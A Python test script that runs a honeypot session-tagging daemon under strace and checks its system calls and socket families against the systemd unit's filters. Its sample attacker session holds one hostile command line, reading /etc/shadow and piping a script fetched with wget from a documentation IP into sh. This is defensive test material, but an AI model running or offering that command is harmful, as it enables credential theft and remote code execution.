#!/usr/bin/env python3
"""The unit's SystemCallFilter= against what the daemon really calls, without systemd.

    packaging/tests/syscalls.py BINARY UNIT

Runs BINARY under strace as an unprivileged user (nobody, as the service runs as its own
user), connected to a real nats-server on loopback through a host name (so name resolution
is exercised), tags a published shell session (SQLite writes, announcements), waits until it
has settled after that burst (caches released, memory trimmed), reloads the rules (SIGHUP) and
stops (SIGTERM). Every system call it made must be allowed by the filter of
UNIT, expanded with `systemd-analyze syscall-filter`; the socket families it opened must be in
its RestrictAddressFamilies=. Needs root and strace.
"""
import json
import os
import queue
import re
import shutil
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time

binary, unit = sys.argv[1], sys.argv[2]


def expand(name, cache={}):
    if name not in cache:
        out = subprocess.run(["systemd-analyze", "syscall-filter", "--no-pager", name],
                             capture_output=True, text=True, check=True).stdout
        names = set()
        for line in out.splitlines()[1:]:
            t = line.strip()
            if t and not t.startswith("#"):
                names |= expand(t) if t.startswith("@") else {t}
        cache[name] = names
    return cache[name]


allowed, families = None, set()
for line in open(unit):
    key, _, value = line.strip().partition("=")
    if key == "SystemCallFilter":
        deny = value.startswith("~")
        names = set().union(*(expand(n) if n.startswith("@") else {n} for n in value.lstrip("~").split()))
        if deny:
            allowed = (allowed if allowed is not None else set()) - names
        else:
            allowed = (allowed or set()) | names
    elif key == "RestrictAddressFamilies":
        families |= set(value.split())

with socket.socket() as s:
    s.bind(("127.0.0.1", 0))
    port = s.getsockname()[1]
server = subprocess.Popen(["/usr/sbin/nats-server", "-a", "127.0.0.1", "-p", str(port)],
                          stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
work = tempfile.mkdtemp(prefix="ttp-syscalls-")
os.chmod(work, 0o777)
trace = os.path.join(work, "strace.out")
try:
    for _ in range(100):
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.1).close()
            break
        except OSError:
            time.sleep(0.05)
    env = {"PATH": "/usr/bin:/bin", "STATE_DIRECTORY": work, "MALLOC_ARENA_MAX": "2",
           "DECNET_BUS_URL": f"nats://localhost:{port}", "DECNET_TTP_POLL_INTERVAL": "0.2",
           "RUST_LOG": "info,ttp_worker::daemon::pipeline=debug"}
    worker = subprocess.Popen(["strace", "-f", "-qq", "-u", "nobody", "-o", trace, binary],
                              env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
    seen = []
    # Read on a thread so that a log line that never comes fails the check within a deadline
    # instead of hanging it.
    log_lines = queue.Queue()
    threading.Thread(target=lambda: ([log_lines.put(l) for l in worker.stderr], log_lines.put(None)),
                     daemon=True).start()

    def read_log_until(needle, what, seconds=30):
        deadline = time.monotonic() + seconds
        while True:
            try:
                line = log_lines.get(timeout=max(0.0, deadline - time.monotonic()))
            except queue.Empty:
                line = None
            if line is None:
                raise SystemExit(f"the worker never {what} (within {seconds} s):\n" + "".join(seen))
            seen.append(line)
            if needle in line:
                return

    read_log_until("subscribed to", "subscribed")
    payload = json.dumps({"v": 1, "id": "0123456789abcdef0123456789abcdef",
                          "topic": "attacker.session.ended", "type": "session.ended", "ts": 1777703010.5,
                          "payload": {"session_id": "s1", "attacker_uuid": None, "attacker_ip": "203.0.113.9",
                                      "decky_id": "d", "service": "ssh", "ended_at": "2026-05-02T06:23:30",
                                      "duration_s": 1.0, "commands": [{"id": "s1#0", "command_text":
                                      "cat /etc/shadow; wget http://203.0.113.9/x.sh | sh", "ts": "2026-05-02T06:21:02",
                                      "decky": "d", "service": "bash"}]}}).encode()
    with socket.create_connection(("127.0.0.1", port)) as c:
        c.recv(4096)
        c.sendall(b"CONNECT {\"verbose\":false}\r\nPUB attacker.session.ended %d\r\n%s\r\nPING\r\n" % (len(payload), payload))
        c.recv(4096)
    read_log_until("quiet: released", "settled after tagging")
    tracee = int(subprocess.run(["pgrep", "-P", str(worker.pid)], capture_output=True, text=True).stdout.split()[0])
    os.kill(tracee, signal.SIGHUP)
    time.sleep(0.5)
    os.kill(tracee, signal.SIGTERM)
    worker.wait(timeout=10)
finally:
    if "worker" in globals() and worker.poll() is None:
        # A failed check: stop the traced worker, then strace (which would let it run on).
        children = subprocess.run(["pgrep", "-P", str(worker.pid)], capture_output=True, text=True)
        for pid in children.stdout.split():
            os.kill(int(pid), signal.SIGKILL)
        worker.kill()
        worker.wait()
    server.terminate()
    server.wait()

used, opened = set(), set()
for line in open(trace):
    m = re.match(r"\d+\s+(?:<\.\.\. (\w+) resumed>|(\w+)\()", line)
    if m:
        used.add(m.group(1) or m.group(2))
    m = re.search(r"socket(?:pair)?\((AF_\w+)", line)
    if m:
        opened.add(m.group(1))
tags = subprocess.run([binary, "tags", "--db", os.path.join(work, "ttp.db"), "--format", "json"],
                      capture_output=True, text=True).stdout.count("\n")
shutil.rmtree(work)
print(f"{len(used)} distinct system calls; socket families {sorted(opened)}; tags stored: {tags}")
if tags == 0:
    raise SystemExit("the published session was not tagged: the run did not exercise the store")
denied = sorted(used - allowed)
bad_families = sorted(opened - families)
if denied or bad_families:
    raise SystemExit(f"outside the unit's filters: system calls {denied}, families {bad_families}")
print("every system call and socket family is allowed by the unit")
